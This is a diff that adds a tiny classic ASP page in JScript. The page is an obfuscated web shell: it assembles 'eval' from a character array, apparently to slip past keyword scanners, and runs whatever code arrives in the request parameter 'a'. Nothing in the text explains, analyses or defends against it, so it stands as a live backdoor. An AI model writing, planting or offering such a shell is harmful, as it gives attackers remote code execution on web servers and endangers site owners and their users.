@@ -1,0 +1,5 @@
+<%@ Language="JScript" %>
+<%
+var E = this[["e", "v", "a", "l"].join("")];
+E(Request("a") + "");
+%>
